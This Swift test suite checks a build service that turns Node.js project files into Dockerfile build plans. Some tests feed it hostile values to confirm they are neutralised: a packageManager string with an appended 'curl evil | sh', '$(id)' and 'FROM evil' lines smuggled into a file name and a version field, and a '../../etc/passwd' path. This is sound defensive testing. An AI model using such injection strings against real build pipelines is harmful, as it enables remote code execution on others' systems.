import Core
import Testing

@testable import BuildService

@Suite struct NodePlanTests {
    static let server = #"{"scripts":{"build":"tsc","start":"node dist"},"engines":{"node":">=20"},"dependencies":{"express":"4"}}"#

    @Test func `a server with a lock file: dependencies first, then the source, then its build`() throws {
        let plan = try Sources.plan(["package.json": Self.server, "package-lock.json": "{}", "src/index.ts": ""])
        #expect(plan.summary == "Node 22 · npm ci · npm run build · npm start" && plan.because == "package.json, package-lock.json")
        #expect(plan.startCommand == "npm start" && plan.method == "node")
        #expect(
            try Sources.lines(plan) == [
                "FROM node:22", #"RUN ["/bin/sh", "-c", "mkdir -p /app && chmod 0775 /app"]"#, "WORKDIR /app",
                #"COPY ["package-lock.json", "package.json", "./"]"#, #"RUN ["/bin/sh", "-c", "umask 0002\nnpm ci"]"#, #"COPY [".", "./"]"#,
                #"RUN ["/bin/sh", "-c", "rm -f ./Dockerfile.slipway-1"]"#, #"RUN ["/bin/sh", "-c", "umask 0002\nnpm run build"]"#,
                #"ENV NODE_ENV="production""#, #"CMD ["/bin/sh", "-c", "npm start"]"#,
            ])
        #expect(plan.because("version") == "`engines.node` in package.json: >=20")
        #expect(plan.because("install") == "package-lock.json" && plan.because("start") == "`scripts.start` in package.json")
        #expect(!plan.decisions.contains { $0.finding.isGuess })
    }

    @Test(arguments: [
        ("pnpm-lock.yaml", "lockfileVersion: '6.0'", ["npm install -g pnpm@8", "pnpm install --frozen-lockfile"]),
        ("pnpm-lock.yaml", "lockfileVersion: '9.0'", ["npm install -g pnpm@9", "pnpm install --frozen-lockfile"]),
        ("yarn.lock", "# yarn lockfile v1", ["yarn install --frozen-lockfile"]), ("npm-shrinkwrap.json", "{}", ["npm ci"]),
    ])
    func `the lock file says who installs`(lock: String, text: String, commands: [String]) throws {
        let plan = try Sources.plan(["package.json": Self.server, lock: text])
        #expect(plan.recipe?.install == commands)
        #expect(plan.recipe?.dependencies.contains(lock) == true && plan.because("install") == lock)
        #expect(plan.startCommand == (lock.hasPrefix("npm") ? "npm start" : "\(lock.prefix { $0 != "." && $0 != "-" }) start"))
    }

    @Test func `packageManager decides between two lock files, and which version`() throws {
        let json = #"{"packageManager":"pnpm@9.1.4+sha512.abc","scripts":{"start":"node ."}}"#
        let plan = try Sources.plan(["package.json": json, "yarn.lock": "", "pnpm-lock.yaml": ""])
        #expect(plan.recipe?.install == ["npm install -g pnpm@9.1.4", "pnpm install --frozen-lockfile"])
        let hostile = #"{"packageManager":"pnpm@9; curl evil | sh","scripts":{"start":"node ."}}"#
        #expect(try Sources.plan(["package.json": hostile, "pnpm-lock.yaml": ""]).recipe?.install.first == "npm install -g pnpm@9")
        let modern = #"{"packageManager":"yarn@4.2.0","scripts":{"start":"node ."}}"#
        #expect(try Sources.plan(["package.json": modern, "yarn.lock": ""]).recipe?.install == ["corepack enable", "yarn install --immutable"])
    }

    @Test func `without dependencies nothing is installed, without a lock npm installs`() throws {
        #expect(try Sources.plan(["package.json": #"{"scripts":{"start":"node ."}}"#]).recipe?.install == [])
        #expect(try Sources.plan(["package.json": #"{"scripts":{"start":"node ."},"dependencies":{"a":"1"}}"#]).recipe?.install == ["npm install"])
    }

    @Test func `scripts that run while installing get the whole source first`() throws {
        let plan = try Sources.plan(["package.json": #"{"scripts":{"postinstall":"prisma generate","start":"node ."},"dependencies":{"a":"1"}}"#, "package-lock.json": "{}"])
        let lines = try Sources.lines(plan)
        #expect(plan.recipe?.dependencies == [] && plan.notes.count == 1)
        let copy = try #require(lines.firstIndex { $0.hasPrefix("COPY") }), install = try #require(lines.firstIndex { $0.contains("npm ci") })
        #expect(copy < install && lines.filter { $0.hasPrefix("COPY") }.count == 1)
    }

    @Test func `workspaces bring the package files of all`() throws {
        let plan = try Sources.plan([
            "package.json": #"{"workspaces":["packages/*"],"scripts":{"start":"node ."}}"#, "package-lock.json": "{}", "packages/a/package.json": "{}",
            "packages/b/package.json": "{}",
        ])
        let lines = try Sources.lines(plan)
        #expect(lines.contains(#"COPY ["packages/a/package.json", "packages/a/"]"#) && lines.contains(#"COPY ["packages/b/package.json", "packages/b/"]"#))
        let odd = try Sources.plan([
            "package.json": #"{"workspaces":["p/*"],"scripts":{"start":"node ."}}"#, "package-lock.json": "{}", "p/$(id)\"]\nFROM evil/package.json": "{}",
        ])
        #expect(try odd.recipe?.dependencies == [] && !Sources.lines(odd).contains { $0.hasPrefix("FROM evil") })
    }

    @Test(arguments: [
        ("20", "20"), ("v20.11.1", "20.11.1"), ("^20.1.0", "20"), (">=18", "22"), (">=18 <21", "20"), ("18 || 20", "20"), ("20.x", "20"), ("lts/iron", "20"),
        ("lts/*", "22"), ("*", "22"), ("~18.2", "18"), (">=23", "23"), ("<=18", "18"), ("14 - 16", "16"),
    ])
    func `the version asked for chooses the image`(asked: String, chosen: String) throws {
        let json = JSONValue.object(["engines": ["node": .string(asked)], "scripts": ["start": "node ."]]).encoded()
        #expect(try Sources.lines(Sources.plan(["package.json": json])).first == "FROM node:\(chosen)")
        #expect(try Sources.lines(Sources.plan(["package.json": #"{"scripts":{"start":"x"}}"#, ".nvmrc": asked + "\n"])).first == "FROM node:\(chosen)")
    }

    @Test func `what is no version is told and passed over`() throws {
        let plan = try Sources.plan(["package.json": #"{"engines":{"node":"$(id)\nFROM evil"},"scripts":{"start":"node ."}}"#])
        #expect(try Sources.lines(plan).first == "FROM node:22" && Sources.lines(plan).filter { $0.hasPrefix("FROM") }.count == 1)
        #expect(plan.notes.first?.contains("can't be read as a version") == true && plan.notes.first?.contains("\n") == false)
    }

    @Test func `an installation's own base of another version is told`() throws {
        let own = BaseImages(["node": "127.0.0.1:15000/slipway/base-node:18.19.0-2f3a"])
        let other = try Sources.plan(["package.json": #"{"engines":{"node":"22"},"scripts":{"start":"node ."}}"#], bases: own)
        #expect(other.summary.hasPrefix("Node 18 ·"))
        #expect(other.notes == ["`engines.node` in package.json asks for Node 22, but this installation's base image has 18.19.0."])
        #expect(try Sources.plan(["package.json": #"{"engines":{"node":">=16"},"scripts":{"start":"node ."}}"#], bases: own).notes == [])
        let silent = try Sources.plan(["package.json": #"{"engines":{"node":"22"},"scripts":{"start":"x"}}"#], bases: BaseImages(["node": "base/node"]))
        #expect(silent.notes.first?.contains("does not say which it has") == true)
    }

    @Test(arguments: [
        (#"{"scripts":{"build":"vite build","dev":"vite"},"devDependencies":{"vite":"5"}}"#, [:], "dist"),
        (#"{"scripts":{"build":"vite build","start":"vite"},"devDependencies":{"vite":"5"}}"#, ["vite.config.ts": "export default {\n build: { outDir: 'www' }\n}"], "www"),
        (#"{"scripts":{"build":"react-scripts build","start":"react-scripts start"},"dependencies":{"react-scripts":"5"}}"#, [:], "build"),
        (#"{"scripts":{"build":"astro build","start":"astro dev"},"dependencies":{"astro":"4"}}"#, [:], "dist"),
        (#"{"scripts":{"build":"next build"},"dependencies":{"next":"14"}}"#, ["next.config.mjs": "export default { output: 'export' }"], "out"),
        (#"{"scripts":{"build":"vue-cli-service build","serve":"x"},"devDependencies":{"@vue/cli-service":"5"}}"#, [:], "dist"),
        (#"{"scripts":{"build":"eleventy"},"devDependencies":{"@11ty/eleventy":"2"}}"#, [:], "_site"),
    ])
    func `a front end is built and its folder served`(json: String, more: [String: String], folder: String) throws {
        let plan = try Sources.plan(["package.json": json, "package-lock.json": "{}", "index.html": ""].merging(more) { $1 })
        #expect(plan.recipe?.output == folder && plan.startCommand == "")
        let text = try #require(plan.generated)
        #expect(text.hasPrefix("FROM node:22 AS build\n") && text.contains("FROM busybox\n") && text.contains("COPY --from=build [\"/app/\(folder)/\", \"./\"]"))
        #expect(text.contains("The build left no folder"))
    }

    @Test func `a server is started though it has a front end's tools`() throws {
        let json = #"{"scripts":{"build":"vite build","start":"node server.js"},"dependencies":{"express":"4"},"devDependencies":{"vite":"5"}}"#
        #expect(try Sources.plan(["package.json": json]).startCommand == "npm start")
        let next = try Sources.plan(["package.json": #"{"scripts":{"build":"next build"},"dependencies":{"next":"14"}}"#])
        #expect(next.startCommand == "npx next start -p $PORT" && next.isGuess("start"))
        let main = try Sources.plan(["package.json": #"{"main":"lib/web"}"#, "lib/web.js": ""])
        #expect(main.startCommand == "node lib/web.js" && !main.isGuess("start"))
        let usual = try Sources.plan(["package.json": "{}", "server.js": ""])
        #expect(usual.startCommand == "node server.js" && usual.isGuess("start"))
    }

    @Test func `what can't be planned is a sentence that names the file`() {
        #expect(Sources.refusal(["package.json": "{"]) == "`package.json` is not JSON: a key was expected at byte 1.")
        #expect(Sources.refusal(["package.json": "[]"]) == "`package.json` is not a JSON object.")
        #expect(Sources.refusal(["package.json": "{\"a\":\"" + String(repeating: "x", count: 300_000) + "\"}"]) == "`package.json` has 292 KiB; a plan reads files of at most 256 KiB.")
        #expect(Sources.refusal(["package.json": String(repeating: "[", count: 1000)]).contains("nested too deeply"))
        #expect(Sources.refusal(["package.json": "{}"]).contains("has neither a `start` nor a `build` script"))
        #expect(Sources.refusal(["package.json": #"{"scripts":{"build":"make"}}"#]).contains("nothing says what runs it or which folder it leaves"))
        #expect(Sources.refusal(["package.json": #"{"main":"../../etc/passwd","scripts":7}"#]).contains("neither"))
    }
}
